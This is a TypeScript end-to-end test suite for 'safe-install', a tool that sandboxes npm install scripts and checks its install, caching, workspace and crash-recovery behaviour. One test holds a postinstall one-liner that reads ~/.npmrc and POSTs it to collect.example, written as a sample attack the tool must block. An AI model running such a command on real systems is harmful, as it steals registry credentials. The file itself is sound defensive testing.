/**
 * `safe-install install` end to end: the real CLI, a real (local) registry of fixtures, the
 * real sandbox, real npm for the reference lockfile. Each test works in its own project folder.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createRequire } from 'node:module';
import { after, before, describe, test } from 'node:test';
import { packageRoot } from '../../src/package-root.js';
import { validateReport } from '../../src/report/schema.js';
import { startCli, writeLauncher, type CliRun } from '../helpers/cli.js';
import { startLocalRegistry } from '../helpers/local-registry.js';

const root = packageRoot().dir;
const fixturesDir = path.join(root, 'fixtures', 'npm', '@fixtures');
let registry: Awaited<ReturnType<typeof startLocalRegistry>>;
let tmp: string;
let launcher: string;

before(async () => {
  registry = await startLocalRegistry({ packages: fs.readdirSync(fixturesDir).map((name) => path.join(fixturesDir, name)) });
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'si-install-test-'));
  // The CLI's temp folders live here: a killed run's leftovers stay out of other tests' way.
  fs.mkdirSync(path.join(tmp, 'tmp'));
  // The CLI's own entry, minus the bin's compile-on-first-use step (the tests run the build).
  launcher = writeLauncher(tmp);
});

after(async () => {
  await registry.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

type Run = CliRun;

/** Env shared by every run: private npm cache and verdict cache, unless a test gives its own. */
function baseEnv(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  return { ...process.env, npm_config_cache: path.join(tmp, 'npm-cache'), XDG_CACHE_HOME: path.join(tmp, 'xdg-cache'), TMPDIR: path.join(tmp, 'tmp'), NO_COLOR: '1', ...extra };
}

function start(cwd: string, args: string[], env: Record<string, string> = {}): ReturnType<typeof startCli> {
  return startCli(launcher, cwd, args, baseEnv(env));
}

const run = (cwd: string, args: string[], env: Record<string, string> = {}) => start(cwd, args, env).done;

/** A fresh project folder with this package.json (name shared, so lockfiles compare whole). */
function project(label: string, manifest: Record<string, unknown> = {}): string {
  const dir = fs.mkdtempSync(path.join(tmp, `${label}-`));
  fs.writeFileSync(path.join(dir, 'package.json'), `${JSON.stringify({ name: 'demo-app', version: '1.0.0', ...manifest }, null, 2)}\n`);
  return dir;
}

/** Everything an install may change: package.json, lockfile, the whole node_modules tree (contents, links, modes). */
function projectHash(dir: string): string {
  const h = crypto.createHash('sha256');
  for (const name of ['package.json', 'package-lock.json']) {
    const file = path.join(dir, name);
    h.update(`${name}:${fs.existsSync(file) ? crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex') : 'absent'}\n`);
  }
  const walk = (rel: string): void => {
    const full = path.join(dir, rel);
    let st: fs.Stats;
    try {
      st = fs.lstatSync(full);
    } catch {
      h.update(`${rel}:absent\n`);
      return;
    }
    if (st.isSymbolicLink()) h.update(`${rel}:link:${fs.readlinkSync(full)}\n`);
    else if (st.isDirectory()) {
      h.update(`${rel}:dir:${st.mode}\n`);
      for (const entry of fs.readdirSync(full).sort()) walk(path.join(rel, entry));
    } else h.update(`${rel}:file:${st.mode}:${crypto.createHash('sha256').update(fs.readFileSync(full)).digest('hex')}\n`);
  };
  walk('node_modules');
  return h.digest('hex');
}

/** npm itself, as the reference. Async: the local registry answers from this very process. */
async function npmInstall(dir: string, args: string[], opts: { scripts: boolean }): Promise<void> {
  const child = spawn('npm', ['install', ...(opts.scripts ? [] : ['--ignore-scripts']), '--no-audit', '--no-fund', '--registry', registry.url, ...args], { cwd: dir, env: baseEnv(), stdio: ['ignore', 'ignore', 'pipe'] });
  let stderr = '';
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  assert.equal(code, 0, stderr);
}

const npmInstallIgnoreScripts = (dir: string, args: string[]): Promise<void> => npmInstall(dir, args, { scripts: false });

interface InstallJson {
  verdict: string;
  install: { installed: boolean; containerStarted: boolean; sandboxed: { name: string }[]; cached: { name: string }[] };
  packages: { name: string; findings: { rule: string }[] }[];
}

/** Waits until the child's stderr matches, then SIGKILLs it; fails if it exits first. */
async function killWhen(h: { child: ChildProcess; done: Promise<Run> }, pattern: RegExp): Promise<Run> {
  let seen = '';
  await new Promise<void>((resolve, reject) => {
    h.child.stderr!.on('data', (d: Buffer) => {
      seen += d.toString();
      if (pattern.test(seen)) resolve();
    });
    void h.done.then((r) => reject(new Error(`exited (${r.code}) before ${pattern}: ${r.stderr}`)));
  });
  h.child.kill('SIGKILL');
  const r = await h.done;
  assert.equal(r.signal, 'SIGKILL');
  return r;
}

/** Containers (sandbox and sinkhole) a process started, by the owner label. */
function containersOf(pid: number): string[] {
  const r = spawnSync('docker', ['ps', '-aq', '--filter', `label=org.safe-install.pid=${pid}`], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout.split('\n').filter(Boolean);
}

describe('safe-install install', () => {
  test('the project\'s own scripts run on the host after the install, through npm, each event once', async () => {
    const log = (event: string) => `node -e "require('fs').appendFileSync('events.log', '${event}\\n')"`;
    const events = ['preinstall', 'install', 'postinstall', 'prepare'];
    const dir = project('own-scripts', { scripts: Object.fromEntries(events.map((e) => [e, log(e)])), dependencies: { '@fixtures/no-scripts': '1.0.0' } });
    const r = await run(dir, ['install', '--registry', registry.url, '--json']);
    assert.equal(r.code, 0, r.stderr);
    const install = (JSON.parse(r.stdout) as { install: { rootScripts: string[]; rootScriptsIn: string } }).install;
    assert.deepEqual(install.rootScripts, events);
    assert.equal(install.rootScriptsIn, 'host');
    // `npm run install` alone would run preinstall and postinstall a second time.
    assert.equal(fs.readFileSync(path.join(dir, 'events.log'), 'utf8'), events.map((e) => `${e}\n`).join(''));
  });

  test('npm workspaces: the workspaces\' scripts run too, in npm\'s order, before the project\'s; on the host, or all in the sandbox', async () => {
    // Each script appends its package and event to events.log at the project root (INIT_CWD).
    const log = (who: string, event: string) => `node -e "require('fs').appendFileSync(process.env.INIT_CWD + '/events.log', '${who}-${event}\\n')"`;
    const make = (label: string): string => {
      const dir = project(label, { workspaces: ['packages/*'], scripts: { postinstall: log('root', 'postinstall'), prepare: log('root', 'prepare') }, dependencies: { '@fixtures/no-scripts': '1.0.0' } });
      const workspaces: [string, string[], Record<string, string>][] = [
        ['a', ['preinstall', 'postinstall', 'prepare'], { b: '1.0.0' }],
        ['b', ['postinstall', 'prepare'], {}],
      ];
      for (const [name, events, deps] of workspaces) {
        fs.mkdirSync(path.join(dir, 'packages', name), { recursive: true });
        const scripts = Object.fromEntries(events.map((e) => [e, log(name, e)]));
        // b's prepare builds into its own folder, as a TypeScript workspace would.
        if (name === 'b') scripts.prepare = `${scripts.prepare} && node -e "require('fs').mkdirSync('dist'); require('fs').writeFileSync('dist/index.js', 'built')"`;
        fs.writeFileSync(path.join(dir, 'packages', name, 'package.json'), `${JSON.stringify({ name, version: '1.0.0', scripts, dependencies: deps }, null, 2)}\n`);
      }
      return dir;
    };
    const ref = make('ws-scripts-ref');
    await npmInstall(ref, [], { scripts: true });
    const npmOrder = fs.readFileSync(path.join(ref, 'events.log'), 'utf8');
    assert.match(npmOrder, /^a-preinstall\na-prepare\nb-prepare\n/, 'npm itself: workspaces first, prepare before postinstall');

    const host = make('ws-scripts-host');
    const r = await run(host, ['install', '--registry', registry.url, '--json']);
    assert.equal(r.code, 0, r.stderr);
    const install = (JSON.parse(r.stdout) as { install: { rootScripts: string[]; workspaceScripts: { dir: string; event: string }[] } }).install;
    assert.equal(fs.readFileSync(path.join(host, 'events.log'), 'utf8'), npmOrder);
    assert.deepEqual(install.rootScripts, ['postinstall', 'prepare']);
    assert.deepEqual(install.workspaceScripts.map((w) => `${w.dir}:${w.event}`), ['packages/a:preinstall', 'packages/a:prepare', 'packages/b:prepare', 'packages/a:postinstall', 'packages/b:postinstall']);
    assert.equal(fs.readFileSync(path.join(host, 'packages', 'b', 'dist', 'index.js'), 'utf8'), 'built');

    const sandboxed = make('ws-scripts-sandbox');
    const s = await run(sandboxed, ['install', '--registry', registry.url, '--json', '--sandbox-root']);
    assert.equal(s.code, 0, s.stderr);
    const report = JSON.parse(s.stdout) as { verdict: string; install: { rootScripts: string[]; rootScriptsIn: string; workspaceScripts: { dir: string; event: string }[] }; packages: { location: string; session: { scripts: { cwd: string }[] } }[] };
    assert.equal(report.verdict, 'allow');
    assert.equal(report.install.rootScriptsIn, 'sandbox');
    assert.deepEqual(report.install.workspaceScripts, install.workspaceScripts);
    assert.deepEqual(report.install.rootScripts, ['postinstall', 'prepare']);
    // All of it ran in the sandbox, as the project's: the log it wrote there is npm's order.
    assert.equal(fs.readFileSync(path.join(sandboxed, 'events.log'), 'utf8'), npmOrder);
    assert.equal(fs.readFileSync(path.join(sandboxed, 'packages', 'b', 'dist', 'index.js'), 'utf8'), 'built');
    const own = report.packages.find((p) => p.location === '')!;
    assert.ok(own.session.scripts.some((sc) => /\/packages\/b$/.test(sc.cwd)), 'b\'s scripts ran in its folder');
  });

  test('--sandbox-root: the project\'s prepare runs in the sandbox on the whole built tree; its outputs land, secrets never go in or come back', async () => {
    const dir = project('sandbox-root', {
      scripts: { prepare: 'node scripts/prepare.js' },
      dependencies: { '@fixtures/dep-postinstall': '1.0.0', '@fixtures/no-scripts': '1.0.0' },
    });
    fs.mkdirSync(path.join(dir, 'scripts'));
    fs.writeFileSync(
      path.join(dir, 'scripts', 'prepare.js'),
      [
        "const fs = require('fs');",
        "fs.mkdirSync('dist', { recursive: true });",
        'fs.writeFileSync(\'dist/seen.json\', JSON.stringify({',
        "  home: require('os').homedir(),",
        "  depBuilt: fs.readFileSync('node_modules/@fixtures/dep-postinstall/marker.txt', 'utf8'),",
        "  plain: fs.existsSync('node_modules/@fixtures/no-scripts/package.json'),",
        "  env: fs.readFileSync('.env', 'utf8'),",
        '}));',
        "fs.appendFileSync('.env', 'WRITTEN_IN_SANDBOX=1\\n');",
        "fs.rmSync('stale.txt');",
        '',
      ].join('\n'),
    );
    const realEnv = 'API_TOKEN=real-secret-never-copied-5d1f\n';
    fs.writeFileSync(path.join(dir, '.env'), realEnv);
    fs.writeFileSync(path.join(dir, 'stale.txt'), 'from an earlier build\n');
    fs.mkdirSync(path.join(dir, '.git'));
    fs.writeFileSync(path.join(dir, '.git', 'config'), '[remote "origin"]\n\turl = https://user:real-token@git.example/repo.git\n');

    const r = await run(dir, ['install', '--registry', registry.url, '--json', '--sandbox-root', '--no-cache']);
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(r.stdout) as Omit<InstallJson, 'packages' | 'install'> & {
      packages: { name: string; location: string; scripts: Record<string, string>; session: { scripts: { event: string; outcome: string }[] } }[];
      install: { rootScripts: string[]; rootScriptsIn: string; project: { leftOut: string[]; notLanded: string[] } };
    };
    assert.deepEqual(validateReport(report).errors, []);
    assert.equal(report.verdict, 'allow');
    assert.deepEqual(report.install.rootScripts, ['prepare']);
    assert.equal(report.install.rootScriptsIn, 'sandbox');
    const own = report.packages.find((p) => p.location === '');
    assert.ok(own, 'the project is in the report');
    assert.equal(own.name, 'demo-app');
    assert.deepEqual(own.session.scripts.map((s) => [s.event, s.outcome]), [['prepare', 'ok']]);
    assert.deepEqual(report.install.project.leftOut, ['.env', '.git']);
    assert.deepEqual(report.install.project.notLanded, ['.env']);

    // It ran in the sandbox (the decoy home), after the dependency's own postinstall, with the
    // whole tree there; the .env it read was the decoy one.
    const seen = JSON.parse(fs.readFileSync(path.join(dir, 'dist', 'seen.json'), 'utf8')) as { home: string; depBuilt: string; plain: boolean; env: string };
    assert.notEqual(seen.home, os.homedir());
    assert.match(seen.home, /^\/home\//);
    assert.equal(seen.depBuilt, 'dep-postinstall ran\n');
    assert.equal(seen.plain, true);
    assert.doesNotMatch(seen.env, /real-secret-never-copied/);
    assert.match(seen.env, /=/, 'a decoy .env stood in for the real one');
    // Its deletion landed; the real .env and .git did not change.
    assert.ok(!fs.existsSync(path.join(dir, 'stale.txt')));
    assert.equal(fs.readFileSync(path.join(dir, '.env'), 'utf8'), realEnv);
    assert.match(fs.readFileSync(path.join(dir, '.git', 'config'), 'utf8'), /real-token/);
    assert.equal(fs.readFileSync(path.join(dir, 'node_modules', '@fixtures', 'dep-postinstall', 'marker.txt'), 'utf8'), 'dep-postinstall ran\n');
  });

  test('--sandbox-root (SAFE_INSTALL_SANDBOX_ROOT=1): a project whose postinstall steals ~/.npmrc is blocked, and nothing of the project changes', async () => {
    const steal =
      "node -e \"const d = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); const r = require('https').request({ host: 'collect.example', method: 'POST', path: '/' }); r.on('error', () => {}); r.end(d)\"";
    const dir = project('sandbox-root-evil', { scripts: { postinstall: steal }, dependencies: { '@fixtures/no-scripts': '1.0.0' } });
    fs.writeFileSync(path.join(dir, 'README.md'), 'an untrusted checkout\n');
    const before = projectHash(dir);
    const files = fs.readdirSync(dir).sort();
    // As an agent's shell asks for it (the environment, not the flag).
    const r = await run(dir, ['install', '--registry', registry.url, '--json'], { SAFE_INSTALL_SANDBOX_ROOT: '1' });
    assert.equal(r.code, 1, r.stderr);
    const report = JSON.parse(r.stdout) as { verdict: string; install: { installed: boolean }; packages: { location: string; verdict: string; findings: { rule: string }[] }[] };
    assert.equal(report.verdict, 'block');
    assert.equal(report.install.installed, false);
    const own = report.packages.find((p) => p.location === '')!;
    assert.equal(own.verdict, 'block');
    const rules = own.findings.map((f) => f.rule);
    assert.ok(rules.includes('credential-access') && rules.includes('exfiltration'), rules.join(', '));
    assert.equal(projectHash(dir), before);
    assert.deepEqual(fs.readdirSync(dir).sort(), files);
  });

  test('a native addon lands built and loads on the host; package.json and lockfile are npm\'s', async () => {
    const dir = project('native');
    const r = await run(dir, ['install', '@fixtures/native-addon', '--registry', registry.url, '--json', '--no-cache']);
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(r.stdout) as InstallJson;
    assert.deepEqual(validateReport(report).errors, []);
    assert.equal(report.verdict, 'allow');
    assert.equal(report.install.installed, true);
    assert.equal(report.install.containerStarted, true);
    assert.deepEqual(report.install.sandboxed.map((p) => p.name), ['@fixtures/native-addon']);
    const pkgDir = path.join(dir, 'node_modules', '@fixtures', 'native-addon');
    assert.ok(fs.statSync(path.join(pkgDir, 'build', 'Release', 'addon.node')).isFile(), 'the sandbox build output is on the host');
    const addon = createRequire(path.join(dir, 'index.js'))('@fixtures/native-addon') as { hello(): string };
    assert.equal(typeof addon.hello, 'function');
    assert.ok(!fs.existsSync(path.join(dir, '.safe-install')), 'no staging leftovers');

    const ref = project('native-ref');
    await npmInstallIgnoreScripts(ref, ['@fixtures/native-addon']);
    assert.equal(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package.json'), 'utf8'));
    assert.equal(fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package-lock.json'), 'utf8'));
  });

  test('lockfile equals npm\'s for a dependency tree with scripts, -D and -E', async () => {
    const dir = project('tree');
    const r = await run(dir, ['npm', 'i', '-D', '-E', '@fixtures/with-dep', '@fixtures/no-scripts', '--registry', registry.url, '--json']);
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(r.stdout) as InstallJson;
    // Dependencies first, both scripted packages in the one session.
    assert.deepEqual(report.install.sandboxed.map((p) => p.name).sort(), ['@fixtures/dep-postinstall', '@fixtures/with-dep']);
    const ref = project('tree-ref');
    await npmInstallIgnoreScripts(ref, ['-D', '-E', '@fixtures/with-dep', '@fixtures/no-scripts']);
    assert.equal(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package.json'), 'utf8'));
    assert.equal(fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package-lock.json'), 'utf8'));
  });

  test('a relative directory dependency is written and linked as npm does (the stage sits at the project\'s depth)', async () => {
    const dep = fs.mkdtempSync(path.join(tmp, 'local-dep-'));
    fs.writeFileSync(path.join(dep, 'package.json'), JSON.stringify({ name: 'local-dep', version: '1.0.0' }));
    const dir = project('reldep');
    const r = await run(dir, ['npm', 'install', `../${path.basename(dep)}`, '--registry', registry.url]);
    assert.equal(r.code, 0, r.stderr);
    const ref = project('reldep-ref');
    await npmInstallIgnoreScripts(ref, [`../${path.basename(dep)}`]);
    assert.equal(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package.json'), 'utf8'));
    assert.equal(fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package-lock.json'), 'utf8'));
    assert.equal(fs.readlinkSync(path.join(dir, 'node_modules', 'local-dep')), fs.readlinkSync(path.join(ref, 'node_modules', 'local-dep')));
    assert.equal(JSON.parse(fs.readFileSync(path.join(dir, 'node_modules', 'local-dep', 'package.json'), 'utf8')).name, 'local-dep');
    assert.deepEqual(fs.readdirSync(tmp).filter((n) => n.includes('.safe-install-stage-')), [], 'no stage left next to the project');
  });

  test('a blocked package leaves package.json, lockfile and node_modules byte-identical', async () => {
    const dir = project('block');
    await npmInstallIgnoreScripts(dir, ['@fixtures/no-scripts']);
    const before = projectHash(dir);
    const r = await run(dir, ['@fixtures/attack-miner-dropper', '--registry', registry.url, '--no-cache']);
    assert.equal(r.code, 1, r.stderr);
    assert.equal(projectHash(dir), before);
    assert.ok(!fs.existsSync(path.join(dir, '.safe-install')));
    assert.match(r.stderr, /nothing was installed \(verdict: block\)/);
    assert.match(r.stderr, /@fixtures\/attack-miner-dropper@1\.0\.0 \(block\):/);
    assert.match(r.stderr, /download-execute/);
    assert.match(r.stderr, /acknowledge:/, 'says how to override');
  });

  test('review without a TTY exits 1 and changes nothing; --yes installs', async () => {
    const dir = project('review');
    const before = projectHash(dir);
    const r = await run(dir, ['install', '@fixtures/detached', '--registry', registry.url, '--json', '--no-cache']);
    assert.equal(r.code, 1, r.stderr);
    const report = JSON.parse(r.stdout) as InstallJson;
    assert.equal(report.verdict, 'review');
    assert.equal(report.install.installed, false);
    assert.equal(projectHash(dir), before);

    const yes = await run(dir, ['install', '@fixtures/detached', '--registry', registry.url, '--json', '--yes', '--no-cache']);
    assert.equal(yes.code, 0, yes.stderr);
    assert.equal((JSON.parse(yes.stdout) as InstallJson).install.installed, true);
    assert.ok(fs.existsSync(path.join(dir, 'node_modules', '@fixtures', 'detached', 'package.json')));
    assert.notEqual(projectHash(dir), before);
  });

  test('a cached allow skips the container and still lands the build outputs; --no-cache decides again', async () => {
    const env = { XDG_CACHE_HOME: path.join(tmp, 'xdg-cache-hit') };
    const first = await run(project('cache-1'), ['install', '@fixtures/native-addon', '--registry', registry.url, '--json'], env);
    assert.equal(first.code, 0, first.stderr);
    assert.equal((JSON.parse(first.stdout) as InstallJson).install.containerStarted, true);

    const dir = project('cache-2');
    const second = await run(dir, ['install', '@fixtures/native-addon', '--registry', registry.url, '--json'], env);
    assert.equal(second.code, 0, second.stderr);
    const report = JSON.parse(second.stdout) as InstallJson;
    assert.equal(report.install.containerStarted, false);
    assert.deepEqual(report.install.cached.map((p) => p.name), ['@fixtures/native-addon']);
    assert.deepEqual(validateReport(report).errors, [], 'a report without a session is still a valid schemaVersion 1 report');
    assert.doesNotMatch(second.stderr, /starting the sandbox/);
    const addon = createRequire(path.join(dir, 'index.js'))('@fixtures/native-addon') as { hello(): string };
    assert.equal(typeof addon.hello, 'function');

    const forced = await run(project('cache-3'), ['install', '@fixtures/native-addon', '--registry', registry.url, '--json', '--no-cache'], env);
    assert.equal(forced.code, 0, forced.stderr);
    assert.equal((JSON.parse(forced.stdout) as InstallJson).install.containerStarted, true);
  });

  test('killed during the sandbox or while reifying: the project is as before', async () => {
    for (const [label, pattern, env] of [
      ['sandbox', /sandboxing 1\/1/, {}],
      ['reify', /test pause at reify/, { SAFE_INSTALL_TEST_PAUSE: 'reify:20000' }],
    ] as const) {
      const dir = project(`kill-${label}`);
      await npmInstallIgnoreScripts(dir, ['@fixtures/no-scripts']);
      const before = projectHash(dir);
      const killed = start(dir, ['install', '@fixtures/benign-codegen', '--registry', registry.url, '--no-cache'], env);
      await killWhen(killed, pattern);
      assert.equal(projectHash(dir), before, `killed during ${label}`);
      const cliTemp = path.join(tmp, 'tmp');
      const mountedDirs = (): string[] => fs.readdirSync(cliTemp).filter((n) => n.startsWith('npm-tarballs-') || n.startsWith('ca-certificates-'));
      if (label === 'sandbox') {
        assert.ok(containersOf(killed.child.pid!).length > 0, 'a SIGKILLed run cannot remove its containers');
        assert.ok(mountedDirs().length > 0, 'nor the temp folders it mounted into them');
      }
      // The next run removes the dead run's containers and stage, and installs normally.
      const again = await run(dir, ['install', '@fixtures/benign-codegen', '--registry', registry.url, '--no-cache']);
      assert.deepEqual(containersOf(killed.child.pid!), []);
      assert.deepEqual(mountedDirs(), [], 'the dead run\'s tarball and CA folders went with its containers');
      assert.equal(again.code, 0, `${again.stderr}\n${again.stdout}`);
      assert.ok(fs.existsSync(path.join(dir, 'node_modules', '@fixtures', 'benign-codegen', 'generated', 'index.js')), 'build output landed');
      assert.ok(!fs.existsSync(path.join(dir, '.safe-install')));
    }
  });

  test('killed after the commit started: the next run finishes it (fully installed, like npm)', async () => {
    const dir = project('kill-commit');
    await npmInstallIgnoreScripts(dir, ['@fixtures/no-scripts']);
    const before = projectHash(dir);
    await killWhen(start(dir, ['install', '@fixtures/benign-codegen', '--registry', registry.url, '--no-cache'], { SAFE_INSTALL_TEST_PAUSE: 'commit:20000' }), /test pause at commit/);
    assert.equal(projectHash(dir), before, 'the journal is written, the renames not yet');
    // Any later install in the project rolls the interrupted one forward first.
    const next = await run(dir, ['install', '--registry', registry.url, '--json']);
    assert.equal(next.code, 0, next.stderr);
    assert.equal((JSON.parse(next.stdout) as InstallJson).install.containerStarted, false, 'nothing left to sandbox');
    assert.ok(fs.existsSync(path.join(dir, 'node_modules', '@fixtures', 'benign-codegen', 'generated', 'index.js')));
    const ref = project('kill-commit-ref');
    await npmInstallIgnoreScripts(ref, ['@fixtures/no-scripts']);
    await npmInstallIgnoreScripts(ref, ['@fixtures/benign-codegen']);
    assert.equal(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package.json'), 'utf8'));
    assert.equal(fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package-lock.json'), 'utf8'));
    assert.ok(!fs.existsSync(path.join(dir, '.safe-install')));
  });

  test('--sandbox-root, killed after the commit started: the next run lands the project\'s outputs too', async () => {
    const prepare = "node -e \"require('fs').mkdirSync('dist'); require('fs').writeFileSync('dist/out.txt', 'built')\"";
    const dir = project('kill-commit-root', { scripts: { prepare }, dependencies: { '@fixtures/no-scripts': '1.0.0' } });
    await killWhen(start(dir, ['install', '--sandbox-root', '--registry', registry.url], { SAFE_INSTALL_TEST_PAUSE: 'commit:20000' }), /test pause at commit/);
    assert.ok(!fs.existsSync(path.join(dir, 'dist')) && !fs.existsSync(path.join(dir, 'node_modules')), 'the journal is written, nothing moved yet');
    // An install naming a package runs no project script: only the roll-forward can land dist/.
    const next = await run(dir, ['install', '@fixtures/no-scripts-dep', '--registry', registry.url, '--json']);
    assert.equal(next.code, 0, next.stderr);
    assert.deepEqual((JSON.parse(next.stdout) as { install: { rootScripts: string[] } }).install.rootScripts, []);
    assert.equal(fs.readFileSync(path.join(dir, 'dist', 'out.txt'), 'utf8'), 'built');
    assert.ok(fs.existsSync(path.join(dir, 'node_modules', '@fixtures', 'no-scripts', 'package.json')));
    assert.ok(!fs.existsSync(path.join(dir, '.safe-install')));
  });
});

describe('safe-install approve', () => {
  test('pins the sandbox-allowed packages in allowScripts and pnpm.onlyBuiltDependencies, and only those', async () => {
    const env = { XDG_CACHE_HOME: path.join(tmp, 'xdg-approve') };
    const dir = project('approve');
    const installed = await run(dir, ['install', '@fixtures/benign-codegen', '--registry', registry.url], env);
    assert.equal(installed.code, 0, installed.stderr);
    // A second scripted package that never went through the sandbox: npm put it there.
    await npmInstallIgnoreScripts(dir, ['@fixtures/shell-pipeline']);
    const r = await run(dir, ['approve', '--json'], env);
    assert.equal(r.code, 1, `exit 1: one package is unproven\n${r.stderr}`);
    assert.deepEqual(JSON.parse(r.stdout), { approved: ['@fixtures/benign-codegen@1.0.0'], unproven: ['@fixtures/shell-pipeline@1.0.0'], changed: true });
    const manifest = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8')) as { allowScripts: unknown; pnpm: unknown; dependencies: unknown };
    assert.deepEqual(manifest.allowScripts, { '@fixtures/benign-codegen@1.0.0': true });
    assert.deepEqual(manifest.pnpm, { onlyBuiltDependencies: ['@fixtures/benign-codegen@1.0.0'] });
    assert.deepEqual(Object.keys(manifest.dependencies as object).sort(), ['@fixtures/benign-codegen', '@fixtures/shell-pipeline']);
    const again = await run(dir, ['approve', '--json'], env);
    assert.equal((JSON.parse(again.stdout) as { changed: boolean }).changed, false, 'idempotent');
  });
});

describe('safe-install npm ci', () => {
  test('installs exactly the lockfile (left byte-identical) with build outputs; refuses one out of sync', async () => {
    const dir = project('ci');
    await npmInstallIgnoreScripts(dir, ['@fixtures/benign-codegen', '@fixtures/no-scripts']);
    fs.rmSync(path.join(dir, 'node_modules'), { recursive: true });
    const lock = fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8');
    const manifest = fs.readFileSync(path.join(dir, 'package.json'), 'utf8');
    const r = await run(dir, ['npm', 'ci', '--registry', registry.url, '--json', '--no-cache']);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual((JSON.parse(r.stdout) as InstallJson).install.sandboxed.map((p) => p.name), ['@fixtures/benign-codegen']);
    assert.equal(fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8'), lock);
    assert.equal(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'), manifest);
    assert.ok(fs.existsSync(path.join(dir, 'node_modules', '@fixtures', 'benign-codegen', 'generated', 'index.js')));
    assert.ok(fs.existsSync(path.join(dir, 'node_modules', '@fixtures', 'no-scripts-dep', 'package.json')));

    const edited = JSON.parse(manifest) as { dependencies: Record<string, string> };
    edited.dependencies['@fixtures/shell-pipeline'] = '^1.0.0';
    fs.writeFileSync(path.join(dir, 'package.json'), `${JSON.stringify(edited, null, 2)}\n`);
    const before = projectHash(dir);
    const stale = await run(dir, ['npm', 'ci', '--registry', registry.url]);
    assert.equal(stale.code, 2, stale.stderr);
    assert.match(stale.stderr, /in sync/);
    assert.equal(projectHash(dir), before);
  });

  test('npm workspaces: -w adds to one workspace, its native addon lands built; lockfile and manifests are npm\'s', async () => {
    const make = (label: string): string => {
      const dir = project(label, { workspaces: ['packages/*'] });
      for (const [name, deps] of [['app', { lib: '1.0.0' }], ['lib', { '@fixtures/no-scripts': '1.0.0' }]] as const) {
        fs.mkdirSync(path.join(dir, 'packages', name), { recursive: true });
        fs.writeFileSync(path.join(dir, 'packages', name, 'package.json'), `${JSON.stringify({ name, version: '1.0.0', dependencies: deps }, null, 2)}\n`);
      }
      return dir;
    };
    const dir = make('workspaces');
    const r = await run(dir, ['install', '-w', 'app', '@fixtures/native-addon', '--registry', registry.url, '--json', '--no-cache']);
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(r.stdout) as InstallJson;
    assert.equal(report.verdict, 'allow');
    assert.deepEqual(report.install.sandboxed.map((p) => p.name), ['@fixtures/native-addon']);
    // The workspace links npm makes, relative, pointing at the real folders.
    assert.equal(fs.realpathSync(path.join(dir, 'node_modules', 'app')), path.join(dir, 'packages', 'app'));
    assert.equal(fs.realpathSync(path.join(dir, 'node_modules', 'lib')), path.join(dir, 'packages', 'lib'));
    const addon = createRequire(path.join(dir, 'packages', 'app', 'index.js'))('@fixtures/native-addon') as { hello(): string };
    assert.equal(typeof addon.hello, 'function');
    assert.ok(!fs.existsSync(path.join(dir, '.safe-install')), 'no staging leftovers');

    const ref = make('workspaces-ref');
    await npmInstallIgnoreScripts(ref, ['-w', 'app', '@fixtures/native-addon']);
    for (const file of ['package.json', 'package-lock.json', 'packages/app/package.json', 'packages/lib/package.json']) {
      assert.equal(fs.readFileSync(path.join(dir, file), 'utf8'), fs.readFileSync(path.join(ref, file), 'utf8'), file);
    }
    // A name that is no workspace: refused before anything changes.
    const before = projectHash(dir);
    const bad = await run(dir, ['install', '-w', 'nope', '@fixtures/no-scripts', '--registry', registry.url]);
    assert.equal(bad.code, 2, bad.stderr);
    assert.match(bad.stderr, /no workspace "nope"/);
    assert.equal(projectHash(dir), before);
  });
});
